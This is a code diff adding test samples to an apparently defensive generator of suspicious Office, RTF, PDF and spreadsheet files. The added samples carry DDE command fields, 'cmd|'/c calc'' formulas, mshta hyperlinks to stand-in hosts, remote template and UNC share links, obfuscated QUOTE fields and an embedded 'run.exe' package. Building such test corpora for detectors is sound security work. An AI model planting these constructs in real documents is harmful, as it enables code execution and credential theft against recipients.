@@ -189,6 +189,8 @@ def _elsewhere() -> Iterator[_Made]:
         )
     ):
         yield f"template-{number}/letter.docx", doc.ooxml_bytes(relations=[("attachedTemplate", target)])
+    for number, target in enumerate(("https://www.example.com/a.png", r"\\FILESERVER\logos\a.png", "file:///C:/a.png")):
+        yield f"image-{number}/letter.docx", doc.ooxml_bytes(relations=[("image", target)])
     for number, target in enumerate(
         ("www.example.com", "example.com", "ann.lee@example.com", "shop.example.com?a=1", "skype:ann@example.com?call")
     ):
@@ -300,7 +302,11 @@ def _fields() -> Iterator[_Made]:
     field = f"\ufeff<w:document>{doc.word_field('DDEAUTO cmd')}</w:document>"
     for coding in ("utf-8", "utf-16-le"):
         yield f"other-name-{coding}/letter.docx", doc.ooxml_bytes([("word/main.dat", field.encode(coding))])
-    for what, text in (("auto", b"\x13 DDEAUTO cmd x\x14\x15"), ("wide", "\x13DDE cmd x\x15".encode("utf-16-le"))):
+    for what, text in (
+        ("auto", b"\x13 DDEAUTO cmd x\x14\x15"),
+        ("wide", "\x13DDE cmd x\x15".encode("utf-16-le")),
+        ("quoted", b"\x13\x13QUOTE 68 68 69\x15 cmd\x15"),
+    ):
         yield f"{what}/letter.doc", doc.ole_bytes({"WordDocument": doc.word_stream() + text})
     for what, instruction in {
         "auto": rb"DDEAUTO c:\\cmd x",
@@ -354,6 +360,9 @@ def _loading() -> Iterator[_Made]:
     }.items():
         for name, data in _fields_in(code):
             yield f"{what}/{name}", data
+    for kind in ("image", "video"):
+        link = [(kind, r"\\192.0.2.9\s\logo.png")]
+        yield f"{kind}-share/letter.docx", doc.ooxml_bytes(relations=link)
     quoted = doc.FIELD_BEGIN + doc.word_field('QUOTE "INCLUDETEXT"') + doc.instruction(' "http://x.example/a.docx"')
     yield (
         "quote/letter.docx",
@@ -388,8 +397,10 @@ def _everyday_fields() -> Iterator[_Made]:
     ):
         yield f"address-{number}/letter.docx", doc.ooxml_bytes(relations=[("hyperlink", target)])
         yield f"address-{number}/paper.pdf", _with_address(target)
+        yield from _linked(f"address-{number}", target)
     yield "address-web/paper.pdf", _with_address("www.example.com/setup.exe")
     formula = '<worksheet><c><f>HYPERLINK("#Sheet2!A1","file:///C:/a.exe")</f></c><c><f>HYPERLINK("https://x.example/"&amp;A1&amp;".exe")</f></c></worksheet>'
+    formula += '<c><f>A1&amp;"|\'"&amp;B1</f></c><c><f>HYPERLINK(IF(A1="x","https://example.com","#a"),"a.exe")</f></c><c>cmd|\'x\'!a</c>'
     yield "formula/list.xlsx", doc.ooxml_bytes([("xl/worksheets/sheet1.xml", formula.encode())], folder="xl")
     rows = "".join(
         f"<tr><td>=SUM(A{n}:B{n})</td><td>-{n}|{n}</td><td>= a | b</td><td>+49 30 {n}</td></tr>" for n in range(9)
@@ -438,6 +449,11 @@ def _addresses() -> Iterator[_Made]:
     ):
         yield f"{number}/letter.docx", doc.ooxml_bytes(relations=[("hyperlink", target.replace("&", "&amp;"))])
         yield f"{number}/paper.pdf", _with_address(target)
+        yield from _linked(str(number), target)
+    quote = 'HYPERLINK "file:///C:/\x13 QUOTE 97 46 101 120 101\x15"'
+    for coding in ("cp1252", "utf-16-le"):
+        stream = doc.word_stream() + f"\x13{quote}\x14x\x15".encode(coding)
+        yield f"quote-{coding}/letter.doc", doc.ole_bytes({"WordDocument": stream})
     for number, target in enumerate(
         (
             *("mshta http://x.example/a", "mshta%20javascript:close()", r"mshta \\192.0.2.9\s\a"),
@@ -448,6 +464,24 @@ def _addresses() -> Iterator[_Made]:
     ):
         yield f"words-{number}/letter.docx", doc.ooxml_bytes(relations=[("hyperlink", target)])
     yield "locked/paper.pdf", doc.pdf_bytes().replace(b"/Catalog", b"/Catalog /A << /U#52I <7365617263682D6D733A78> >>")
+
+
+def _linked(what: str, target: str) -> Iterator[_Made]:
+    """A link in fields of Word, in a workbook and a presentation of old."""
+    written = target.replace("\\", "\\\\")
+    for name, data in _fields_in(f'HYPERLINK "{written}" \\o "open"'):
+        yield f"{what}-field/{name}", data
+    wide = (target + "\0").encode("utf-16-le")
+    plain = target.encode() + b"\0"
+    for kind, moniker in (
+        ("address", bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + struct.pack("<L", len(wide)) + wide),
+        ("file", bytes.fromhex("0303000000000000c000000000000046") + struct.pack("<HL", 0, len(plain)) + plain),
+    ):
+        link = bytes(8) + bytes.fromhex("d0c9ea79f9bace118c8200aa004ba90b") + struct.pack("<LL", 2, 3) + moniker
+        book = doc.xls_workbook() + doc.xls_workbook() + struct.pack("<HH", 0x1B8, len(link)) + link
+        yield f"{what}-{kind}/list.xls", doc.ole_bytes({"Workbook": book})
+    slide = struct.pack("<HHL", 0x10, 0xFBA, len(wide) - 2) + wide[:-2]
+    yield f"{what}/talk.ppt", doc.ole_bytes({"PowerPoint Document": bytes(64) + slide})
 
 
 def _pages() -> Iterator[_Made]:
@@ -478,6 +512,13 @@ def _pages() -> Iterator[_Made]:
     for coding in ("utf-8", "utf-16"):
         formula = '<worksheet><c><f>HYPERLINK("\\\\192.0.2.9\\s\\a.exe","x")</f></c></worksheet>'.encode(coding)
         yield f"formula-{coding}/list.xlsx", doc.ooxml_bytes([("xl/worksheets/sheet1.xml", formula)], folder="xl")
+    for what, text in {
+        "joined": 'HYPERLINK(CONCATENATE("file:///C:/","a"&amp;".exe"),"x")',
+        "dde": "cmd|'/c calc'!A0",
+        "dde-spelled": "1+cmd|&apos;/c calc&apos;!A0",
+    }.items():
+        sheet = f"<worksheet><c><f>{text}</f></c></worksheet>".encode()
+        yield f"formula-{what}/list.xlsx", doc.ooxml_bytes([("xl/worksheets/sheet1.xml", sheet)], folder="xl")
     yield "formula/list.slk", b'ID;PWXL;N;E\r\nC;X1;Y1;K0;EHYPERLINK("file:///C:/a.exe")\r\nE\r\n'
 
 
@@ -545,6 +586,11 @@ def _rich() -> Iterator[_Made]:
         "share": "\\'5c\\'5c192.0.2.1\\'5cs",
     }.items():
         yield f"{what}/letter.rtf", doc.rtf_bytes(before="{\\*\\template " + address + "//x.example/t.dotm}")
+    for what, front in (("mark", b"\xef\xbb\xbf"), ("blanks", b"\r\n \n")):
+        package = doc.rtf_bytes([doc.ole1_object("Package", doc.ole_package("run.exe", EXE)[4:])])
+        yield f"behind-{what}/letter.rtf", front + package
+    shape = "{\\shp{\\*\\shpinst{\\sp{\\sn pihlShape}{\\sv {\\*\\hl{\\hlloc }{\\hlsrc file:///C:/a.exe}{\\hlfr x}}}}}}"
+    yield "shape/letter.rtf", doc.rtf_bytes(before=shape)
     yield "run/letter.rtf", doc.rtf_bytes(before="{\\*\\template \\bin3 }}}http://x.example/t.dotm}")
     long = "{\\*\\template ht\\bin30000 " + "}" * 30_000 + "tp://x.example/t.dotm}"
     yield "long-run/letter.rtf", doc.rtf_bytes(before=long)
